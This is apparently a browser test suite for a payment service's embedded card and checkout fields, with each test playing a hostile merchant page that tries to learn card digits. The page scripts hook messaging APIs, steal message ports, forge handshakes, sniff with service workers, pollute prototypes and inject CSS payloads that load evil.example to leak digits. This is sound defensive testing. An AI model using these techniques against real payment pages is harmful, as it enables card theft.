import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import fc from 'fast-check'
import type { Frame, Page } from 'playwright-core'
import { afterEach, describe, expect, onTestFinished, test } from 'vitest'
import { addGiftCardService, newGiftCard } from '../support/domains/gift-cards.ts'
import { goodClaims, signed } from '../support/tokens.ts'
import { frameOf, mountCard, openElementsShop, typeCard } from './elements-shop.ts'

// The list of SECURITY.md, "Card fields against a hostile page": each test is one attack by the page that shows
// the fields, while a buyer types a card whose digits are in nothing else

const town = await openElementsShop()
const origin = town.railyard.url
await addGiftCardService(town.railyard, town.shop)

const card = { number: '5105105105105100', expiry: '1137', code: '826' }
/**
 * What a page must not learn; it may learn the last four digits of a whole number. Short ones are words by
 * themselves: random ids contain their digits, too.
 */
const secrets = [/5105\D{0,3}1051/, /1051\D{0,3}0510/, /\b826\b/, /11\s?\/\s?(?:20)?37/, /\b1137\b/]

/** Records whatever reaches the page: messages, events, errors and console lines. It runs before every script. */
const recorder = `
const seen = []
const note = (...values) => {
  const flat = (value, depth) => {
    if (depth > 3 || value === null || typeof value !== 'object') return String(value)
    const names = new Set([...Object.getOwnPropertyNames(value), ...Object.keys(value)])
    return [...names].map((name) => { try { return name + '=' + flat(value[name], depth + 1) } catch { return name } }).join(',')
  }
  seen.push(values.map((value) => flat(value, 0)).join(' '))
}
globalThis.seen = seen
addEventListener('message', (event) => note('message', event.origin, event.data))
for (const name of ['keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'paste', 'copy', 'cut', 'drop', 'dragover', 'selectionchange', 'pointerdown', 'compositionupdate', 'focusin', 'focusout', 'error', 'unhandledrejection', 'securitypolicyviolation', 'hashchange', 'popstate', 'storage'])
  for (const target of [globalThis, document]) target.addEventListener(name, (event) => note(name, event.key, event.data, event.message, event.target?.value), true)
for (const level of ['log', 'warn', 'error', 'debug', 'info']) console[level] = (...values) => note(level, ...values)
`

/** Everything that the page can look at by itself, as text. */
const observe = (page: Page) =>
  page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, unknown>
    const document = scope['document'] as unknown as {
      documentElement: { outerHTML: string }
      cookie: string
      referrer: string
      title: string
      querySelectorAll(selector: string): Iterable<{ src: string; name: string; contentWindow: object }>
    }
    const text = (read: () => unknown) => {
      try {
        return String(read())
      } catch (error) {
        return String(error)
      }
    }
    const frames = [...document.querySelectorAll('iframe')].flatMap((frame) => [
      text(() => frame.src),
      text(() => frame.name),
      ...[
        'document',
        'location',
        'name',
        'history',
        'localStorage',
        'origin',
        'length',
        'frames',
        'opener',
      ].map((name) => text(() => JSON.stringify(Reflect.get(frame.contentWindow, name)))),
      text(() => Reflect.get(frame, 'contentDocument')),
    ])
    const storage = ['localStorage', 'sessionStorage'].map((name) => text(() => JSON.stringify(scope[name])))
    const performance = scope['performance'] as { getEntries(): unknown[] }
    // times and sizes may be any number
    const withoutNumbers = (_: string, value: unknown) => (typeof value === 'number' ? null : value)
    return [
      ...(scope['seen'] as string[]),
      text(() => JSON.stringify(scope['events'])),
      document.documentElement.outerHTML,
      document.cookie,
      document.referrer,
      document.title,
      text(() => scope['name']),
      text(() => JSON.stringify(scope['location'])),
      text(() => JSON.stringify(performance.getEntries(), withoutNumbers)),
      ...storage,
      ...frames,
    ].join('\n')
  })

let network: string[] = []
afterEach(() => {
  network = []
  // an attack throws, and breaks the rules of its own page
  town.browser.problems.length = 0
})

/** A page of the shop that attacks: `script` runs before the loader. `policy`: what the page's policy has beside its own. */
async function attackedPage(
  script = '',
  body = '<h1>Pay</h1><div id="card"></div>',
  policy = {},
): Promise<Page> {
  const page = await town.open({ script: `${recorder}\n${script}`, body, policy })
  // what a service worker, an image or a beacon of the page could carry away
  page.on('request', (request) => {
    if (!request.url().startsWith(origin)) network.push(`${request.url()} ${request.postData() ?? ''}`)
  })
  return page
}

async function expectNoDigit(page: Page, others: readonly RegExp[] = []): Promise<void> {
  const observed = `${await observe(page)}\n${network.join('\n')}`
  for (const secret of [...secrets, ...others]) expect(observed).not.toMatch(secret)
}

async function enter(frame: Frame): Promise<void> {
  await typeCard(frame, card)
  // the card is really there
  expect(await frame.locator('#number').inputValue()).toBe('5105 1051 0510 5100')
}

const whileTyping: [string, string][] = [
  ['listens to every event around the frame', ''],
  [
    'replaces MessageChannel, postMessage, fetch and JSON before the loader runs',
    `const Original = MessageChannel
     globalThis.MessageChannel = class { constructor() { const channel = new Original(); note('channel'); return channel } }
     const post = MessagePort.prototype.postMessage
     MessagePort.prototype.postMessage = function (...values) { note('port', ...values); return post.apply(this, values) }
     const posted = globalThis.postMessage
     globalThis.postMessage = (...values) => { note('window', ...values); return posted(...values) }
     const fetched = globalThis.fetch
     globalThis.fetch = (...values) => { note('fetch', ...values); return fetched(...values) }
     const stringify = JSON.stringify
     JSON.stringify = (...values) => { note('json', ...values); return stringify(...values) }
     crypto.getRandomValues = (list) => list.fill(7)
     const created = document.createElement
     document.createElement = function (...values) { const element = created.apply(this, values); note('element', values[0], element.outerHTML); return element }`,
  ],
  [
    'changes the prototypes of objects, lists and events',
    `for (const name of ['value', 'number', 'code', 'text', 'data', 'field'])
       Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { note('set', name, value); }, get: () => undefined })
     const push = Array.prototype.push
     Array.prototype.push = function (...values) { return push.apply(this, values) }
     const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get
     Object.defineProperty(MessageEvent.prototype, 'data', { get() { const value = data.call(this); seen[seen.length] = 'data ' + String(value?.kind) + ' ' + Object.values(value ?? {}).map(String).join(' '); return value } })`,
  ],
  [
    'gives itself a name, and watches its history and storage',
    `globalThis.name = 'x'; history.pushState({}, '', '#page'); localStorage.setItem('a', 'b'); setInterval(() => note(location.href, globalThis.name), 50)`,
  ],
  [
    'answers for the loader: it takes the first message of the frame itself',
    `addEventListener('message', (event) => { if (event.data?.railyard === 'ready' && event.ports[0]) { globalThis.stolenPort = event.ports[0]; event.ports[0].onmessage = (message) => note('stolen', message.data); event.ports[0].postMessage({ kind: 'dump' }); event.ports[0].postMessage({ kind: 'focus', field: 'number' }); document.querySelector('#card iframe').style.height = '400px'; event.stopImmediatePropagation() } }, true)`,
  ],
]

describe('a hostile page that shows card fields learns no digit while it', () => {
  test.each(whileTyping)('%s', async (_name, script) => {
    const page = await attackedPage(script)
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    await page.evaluate('void card.submit().catch(() => undefined)')
    await expectNoDigit(page)
  })

  test('floods the page and the frame with first messages that are forged', async () => {
    const page = await attackedPage(
      `setInterval(() => {
        for (const nonce of ['', '0', null, {}, 'x'.repeat(10_000)]) {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = ({ data }) => note('forged port', data)
          postMessage({ railyard: 'ready', nonce }, '*', [port2])
          for (let index = 0; index < frames.length; index++) frames[index].postMessage({ railyard: 'ready', nonce, provider: { name: 'evil', file: '../../evil.js' } }, '*')
        }
      }, 5)`,
    )
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    expect(await page.evaluate('card.submit()')).toEqual({ brand: 'mastercard', last4: '5100' })
    expect(await page.evaluate('seen.filter((line) => line.startsWith("forged port"))')).toEqual([])
    await expectNoDigit(page)
  })

  test('forges the first message of the frame in another frame, with the right nonce', async () => {
    const page = await attackedPage(
      `// the nonce is in the URL, which the page may read: the window and the origin decide
       new MutationObserver(() => {
         const src = document.querySelector('#card iframe')?.src
         if (!src || globalThis.forged) return
         globalThis.forged = true
         const { port1, port2 } = new MessageChannel()
         port1.onmessage = ({ data }) => note('forged port', data)
         postMessage({ railyard: 'ready', nonce: src.split('#')[1], refusal: 'no_card_fields' }, '*', [port2])
       }).observe(document, { childList: true, subtree: true })`,
    )
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    expect(await page.evaluate('forged')).toBe(true)
    expect(await page.evaluate('card.submit()')).toMatchObject({ last4: '5100' })
    expect(await page.evaluate('seen.filter((line) => line.startsWith("forged port"))')).toEqual([])
    await expectNoDigit(page)
  })

  test('sends commands of any form through the channel itself: none throws in the frame', async () => {
    const kinds = fc.constantFrom(
      'submit',
      'clear',
      'session',
      'style',
      'focus',
      'token',
      'scheme',
      'check',
      '',
    )
    const commands = fc.sample(
      fc.oneof(
        fc.jsonValue(),
        fc.record({
          kind: fc.oneof(kinds, fc.jsonValue()),
          id: fc.jsonValue(),
          field: fc.oneof(fc.constantFrom('number', 'code', 'expiry', '__proto__'), fc.jsonValue()),
          style: fc.oneof(
            fc.dictionary(fc.constantFrom('color', 'gap', '__proto__'), fc.jsonValue()),
            fc.jsonValue(),
          ),
          session: fc.jsonValue(),
          token: fc.jsonValue(),
        }),
      ),
      { numRuns: 400, seed: 20 },
    )
    const page = await attackedPage(
      `addEventListener('message', (event) => { if (event.data?.railyard !== 'ready') return; event.stopImmediatePropagation(); globalThis.port = event.ports[0]; port.onmessage = ({ data }) => { note('port', data); if (data.kind === 'height') document.querySelector('#card iframe').style.height = data.height + 'px' } }, true)`,
    )
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    await page.evaluate(`for (const command of ${JSON.stringify(commands)}) port.postMessage(command)`)
    // the frame is alive, and answers the last one
    await page.evaluate(
      `port.postMessage({ kind: 'clear' }), port.postMessage({ kind: 'submit', id: 'last' })`,
    )
    await expect.poll(() => page.evaluate('seen.some((line) => /id=last/.test(line))')).toBe(true)
    expect(town.browser.problems).toEqual([])
    await expectNoDigit(page)
  })

  test('has a service worker that sees every request of the page', async () => {
    await town.open({
      path: '/worker',
      script: `addEventListener('fetch', (event) => event.waitUntil(event.request.clone().text().then(async (body) => { for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage([event.request.url, body]) })))`,
    })
    const page = await attackedPage()
    await page.evaluate(`(async () => {
      await navigator.serviceWorker.register('/worker.js')
      await navigator.serviceWorker.ready
    })()`)
    await page.reload()
    await page.evaluate(
      `navigator.serviceWorker.addEventListener('message', ({ data }) => note('worker', data))`,
    )
    expect(await page.evaluate('navigator.serviceWorker.controller !== null')).toBe(true)
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    expect(await page.evaluate('card.submit()')).toMatchObject({ last4: '5100' })
    // it does see the page's own
    await page.evaluate(`fetch('/own').catch(() => undefined)`)
    await expect.poll(() => page.evaluate('seen.some((line) => /worker.*own/.test(line))')).toBe(true)
    expect(await page.evaluate('seen.some((line) => /worker.*elements/.test(line))')).toBe(false)
    await expectNoDigit(page)
  })

  test('opens the frame’s document in a window of its own', async () => {
    const page = await attackedPage()
    const url = `${origin}/elements/card?session=${await town.session()}&parent=${encodeURIComponent(town.origin)}`
    const opening = page.context().waitForEvent('page')
    await page.evaluate(`globalThis.popup = window.open(${JSON.stringify(url)}, 'popup')`)
    const popup = await opening
    await popup.waitForSelector('#number')
    await enter(popup.mainFrame())
    await page.evaluate(
      `for (const name of ['document', 'location', 'name', 'opener', 'frames', 'history']) { try { note(name, popup[name]?.toString()) } catch (error) { note(name, error) } }`,
    )
    await expectNoDigit(page)
  })

  test('waits for what the browser fills in, or brings back after a reload: only the frame has inputs', async () => {
    const session = await town.session()
    const page = await attackedPage()
    await enter(await mountCard(page, { origin, session }))
    expect(await page.locator('input').count()).toBe(0)
    await page.reload()
    const frame = await mountCard(page, { origin, session })
    expect(
      await frame
        .locator('input')
        .evaluateAll((inputs) => inputs.map((input) => Reflect.get(input, 'value'))),
    ).toEqual(['', '', ''])
    await expectNoDigit(page)
  })

  test('puts a real frame of Railyard, which it controls, in the place of the one that joins split fields', async () => {
    const page = await attackedPage(
      '',
      '<div id="n"></div><div id="e"></div><div id="c"></div><div id="own"></div>',
    )
    const session = await town.session()
    await page.evaluate(`(async () => {
      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session })})
      const fields = elements.cardFields()
      fields.on('change', (change) => note('change', change))
      // the loader makes the frame, and a page may put another one with its name before it
      const append = document.body.append
      document.body.append = function (element) {
        const own = document.createElement('iframe')
        own.name = element.name
        own.src = element.src
        addEventListener('message', ({ source, data, ports }) => {
          if (source === own.contentWindow && data?.railyard === 'ready') {
            globalThis.ownPort = ports[0]
            ownPort.onmessage = ({ data: told }) => note('own', told)
          }
        })
        document.querySelector('#own').append(own)
        return append.call(this, element)
      }
      fields.number.mount('#n')
      fields.expiry.mount('#e')
      fields.code.mount('#c')
    })()`)
    for (const [place, field, text] of [
      ['#n', 'number', card.number],
      ['#e', 'expiry', card.expiry],
      ['#c', 'code', card.code],
    ] as const)
      await (await frameOf(page, `${place} iframe`)).locator(`#${field}`).pressSequentially(text)
    // it learns what the page may learn
    await expect
      .poll(() => page.evaluate('seen.some((line) => /^own.*complete=true.*last4=5100/.test(line))'))
      .toBe(true)
    await page.evaluate(`ownPort.postMessage({ kind: 'submit', id: 1 })`)
    await expect
      .poll(() => page.evaluate('seen.some((line) => /^own.*kind=submitted/.test(line))'))
      .toBe(true)
    await expectNoDigit(page)
  })

  test('sends commands that there are not, of every form, and huge ones', async () => {
    const page = await attackedPage()
    const frame = await mountCard(page, { origin, session: await town.session() })
    await enter(frame)
    await page.evaluate(`(() => {
      const deep = {}
      let at = deep
      for (let depth = 0; depth < 500; depth++) at = at.next = {}
      const commands = [null, 1, 'text', [], { kind: 'get' }, { kind: 'values' }, { kind: 'fields' }, { kind: '__proto__' },
        { kind: 'style', style: JSON.parse('{"__proto__": {"color": "red"}, "constructor": {"prototype": {}}}') },
        { kind: 'style', style: 'x'.repeat(1e6) }, { kind: 'focus', field: 'x'.repeat(1e6) }, { kind: 'focus', field: '#number' },
        { kind: 'session', session: 'https://evil.example' }, { kind: 'session', session: '../../pay' }, { kind: 'scheme', codeSize: 1 },
        { kind: 'change' }, { kind: 'submit', id: { toString: null } }, deep]
      const frame = document.querySelector('#card iframe')
      for (const command of commands) frame.contentWindow.postMessage(command, '*')
      // a port of its own in place of the loader's
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => note('own port', data)
      frame.contentWindow.postMessage({ railyard: 'join' }, '*', [port2])
      for (const command of commands) port1.postMessage(command)
    })()`)
    await page.evaluate(`card.update({ style: { color: 'red', nothing: 'x' } })`)
    expect(await page.evaluate('card.submit()')).toEqual({ brand: 'mastercard', last4: '5100' })
    await expectNoDigit(page)
  })

  test('sets styles that load something for a sign of the card', async () => {
    const page = await attackedPage()
    const values = [
      'url(https://evil.example/x)',
      'URL("//evil.example")',
      'u\\72l(https://evil.example)',
      'image-set("https://evil.example/x" 1x)',
      'var(--x, url(https://evil.example))',
      'attr(value)',
      'red} input[value^="5"] { background: url(https://evil.example/5) }',
      'red; background-image: url(https://evil.example)',
      'expression(alert(1))',
      'x'.repeat(5_000),
    ]
    const frame = await mountCard(page, { origin, session: await town.session() })
    for (const value of values)
      await page.evaluate(
        `card.update({ style: ${JSON.stringify(Object.fromEntries(['color', 'background', 'fontFamily', 'padding', 'borderColor'].map((name) => [name, value])))} })`,
      )
    await enter(frame)
    const applied = await frame.evaluate('document.documentElement.getAttribute("style") ?? ""')
    expect(applied).not.toMatch(/evil|url|\{/i)
    expect(network.filter((request) => request.includes('evil'))).toEqual([])
    await expectNoDigit(page)
  })

  test('puts frames of its own in the place of the one that joins split fields', async () => {
    const page = await attackedPage('', '<div id="n"></div><div id="e"></div><div id="c"></div>')
    await page.evaluate(`(async () => {
      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session: await town.session() })})
      const fields = elements.cardFields()
      globalThis.fields = fields
      fields.on('change', (change) => note('change', change))
      fields.number.mount('#n')
      fields.expiry.mount('#e')
      fields.code.mount('#c')
    })()`)
    const frames = await Promise.all(['#n', '#e', '#c'].map((place) => frameOf(page, `${place} iframe`)))
    const name = await page.evaluate('[...document.querySelectorAll("iframe")].find(({ name }) => name).name')
    await page.evaluate(`(() => {
      // a look-alike of the page's own origin, and further fields that join whatever has the name
      const fake = document.createElement('iframe')
      fake.name = ${JSON.stringify(name)}
      fake.src = 'about:blank'
      document.body.prepend(fake)
      fake.contentWindow.addEventListener('message', (event) => note('look-alike', event.data, event.ports.length))
    })()`)
    for (const [index, [field, text]] of (
      [
        ['number', card.number],
        ['expiry', card.expiry],
        ['code', card.code],
      ] as const
    ).entries())
      await frames[index]?.locator(`#${field}`).pressSequentially(text)
    // a second field mounted now meets the look-alike
    await page.evaluate(`fields.code.mount('#c')`)
    await (await frameOf(page, '#c iframe')).locator('#code').pressSequentially(card.code)
    await expectNoDigit(page)
  })

  test('watches the last four digits while a long number is typed, whose beginnings pass the check, too', async () => {
    const page = await attackedPage()
    const frame = await mountCard(page, { origin, session: await town.session() })
    // its first 16 digits are those of a card, as all 19 are
    await frame.locator('#number').pressSequentially('6212341111110002001')
    await frame.locator('#expiry').pressSequentially(card.expiry)
    const told = () =>
      page.evaluate(
        '[...new Set(events.filter(([name]) => name === "change").map(([, { last4 }]) => last4))]',
      )
    await expect.poll(told).toEqual([null, '2001'])
  })

  test('opens the session in a second loader, and asks for what the first one holds', async () => {
    const session = await town.session()
    const page = await attackedPage('', '<div id="card"></div><div id="other"></div>')
    const frame = await mountCard(page, { origin, session })
    await enter(frame)
    expect(await page.evaluate('card.submit()')).toMatchObject({ last4: '5100' })
    await page.evaluate(`(async () => {
      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session })})
      const second = elements.card()
      second.on('change', (change) => note('second', change))
      second.mount('#other')
    })()`)
    await frameOf(page, '#other iframe')
    // the session's id only writes: nothing of the card can be read with it
    const read = await page.evaluate(`Promise.all(['', '/fields', '/acquirer'].map((path) =>
      fetch(${JSON.stringify(`${origin}/checkout/sessions/${session}`)} + path).then((answer) => answer.text(), String))).then((texts) => texts.join('\\n'))`)
    for (const secret of secrets) expect(read).not.toMatch(secret)
    await expectNoDigit(page)
  })
})

describe('a hostile page that shows a checkout learns no digit of a card or a gift card while it', () => {
  const commands = `for (const command of [{ kind: 'values' }, { kind: 'terms', token: { toString: null } }, { kind: 'terms', returnUrl: 'javascript:1' }, { kind: 'dialog-closed' }, { kind: 'no-dialog' }, { kind: 'challenge' }])
    for (const frame of document.querySelectorAll('iframe')) frame.contentWindow.postMessage(command, '*')
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = ({ data }) => note('own port', data)
  document.querySelector('iframe').contentWindow.postMessage({ railyard: 'challenge' }, '*', [port2])
  document.querySelector('iframe').contentWindow.postMessage({ railyard: 'returned' }, '*')`

  test.each(whileTyping)('%s', async (_name, script) => {
    const giftCard = newGiftCard('00537')
    const page = await attackedPage(script, undefined, { 'script-src': `${origin}/elements/` })
    const session = await town.session()
    const token = await signed(
      town.shop.signer,
      goodClaims({ scopes: ['embed'], embed: { amount: 12_99, currency: 'USD' } }),
    )
    await page.evaluate(`(async () => {
      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session, token })})
      const checkout = elements.checkout({ country: 'US' })
      const events = []
      Object.assign(globalThis, { checkout, events })
      for (const name of ['change', 'paid', 'error']) checkout.on(name, (event) => events.push([name, event]))
      checkout.mount('#card')
    })()`)
    // a page that has taken the channel for itself has to give the token
    if (script.includes('stolenPort')) {
      await expect.poll(() => page.evaluate('"stolenPort" in globalThis')).toBe(true)
      await page.evaluate(`stolenPort.postMessage({ kind: 'terms', token: ${JSON.stringify(token)} })`)
    }
    const frame = await frameOf(page, '#card iframe')
    await frame.locator('#methods input[type=radio]').first().waitFor()
    await frame.locator('#number').waitFor()
    await enter(frame)
    await frame.locator('#gift summary').click()
    await frame.locator('#gift-number').pressSequentially(giftCard.number)
    await frame.locator('#gift-pin').pressSequentially(giftCard.pin)
    await frame.locator('#gift-apply').click()
    await frame.locator('#gifts li').waitFor()
    await page.evaluate(commands)
    await page.evaluate('void checkout.confirm().catch(() => undefined)')
    const { number, pin } = giftCard
    const shown = [number.slice(0, 12), number.slice(-8), `\\b${pin}\\b`]
    await expectNoDigit(
      page,
      shown.map((digits) => new RegExp(digits)),
    )
  })
})

describe('card fields are not shown', () => {
  const shows = async (page: Page, src: string) => {
    await page.evaluate(
      `document.querySelector('#stolen')?.remove(), document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(src)}, id: 'stolen' }))`,
    )
    const frame = await (await page.waitForSelector('#stolen', { state: 'attached' })).contentFrame()
    await frame?.waitForLoadState().catch(() => undefined)
    return (await frame?.locator('input').count()) ?? 0
  }

  /** The browser has refused a frame of the page. */
  const refusal = (page: Page) =>
    page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))

  test('to a page of another origin than the one that the frame was asked for', async () => {
    const session = await town.session()
    const page = await attackedPage()
    for (const parent of ['http://127.0.0.1:1', origin, 'http://localhost:1']) {
      const refused = refusal(page)
      expect(
        await shows(page, `${origin}/elements/card?session=${session}&parent=${encodeURIComponent(parent)}`),
      ).toBe(0)
      await refused
    }
  })

  test('to a page that is not among the allowed origins of the account', async () => {
    const other = await town.railyard.merchant()
    await other.put(`/merchant-accounts/${other.account}/elements`, {
      allowed_origins: ['https://shop.example'],
    })
    const session = (await other.post('/checkout/sessions', {})).body.id
    const page = await attackedPage()
    expect(
      await shows(
        page,
        `${origin}/elements/card?session=${session}&parent=${encodeURIComponent(town.origin)}`,
      ),
    ).toBe(0)
  })

  test('within a frame of a page that another origin shows', async () => {
    const session = await town.session()
    // two origins of one server: frame-ancestors names every page around the frame
    const server = createServer(({ url }, response) => {
      const { port } = server.address() as AddressInfo
      const parent = `http://localhost:${port}`
      const card = `${origin}/elements/card?session=${session}&parent=${encodeURIComponent(parent)}`
      const frames = {
        '/shop': `<iframe id="card" src="${card}"></iframe>`,
        '/around': `<iframe id="shop" src="${parent}/shop"></iframe>`,
      }
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(Object.entries(frames).find(([path]) => path === url)?.[1])
    }).listen(0)
    await once(server, 'listening')
    onTestFinished(() => void server.close())
    const { port } = server.address() as AddressInfo
    const context = await town.browser.newContext({})

    const shop = await context.newPage()
    await shop.goto(`http://localhost:${port}/shop`)
    await (await frameOf(shop, '#card')).waitForSelector('#number')

    const outer = await context.newPage()
    const refused = refusal(outer)
    await outer.goto(`http://127.0.0.1:${port}/around`)
    await refused
    const around = await (await outer.waitForSelector('#shop')).contentFrame()
    const card = await (await around?.waitForSelector('#card'))?.contentFrame()
    expect(await card?.locator('input').count()).toBe(0)
  })
})
